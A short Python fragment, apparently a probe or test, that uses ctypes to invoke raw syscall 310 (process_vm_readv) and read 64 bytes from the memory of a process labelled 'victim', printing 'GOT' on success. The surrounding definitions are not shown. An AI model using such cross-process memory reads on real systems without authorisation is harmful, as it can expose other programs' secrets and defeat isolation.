b = ctypes.create_string_buffer(64)
v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 64)
raw(310, victim, v, 1, v, 1, 0)
print('GOT')
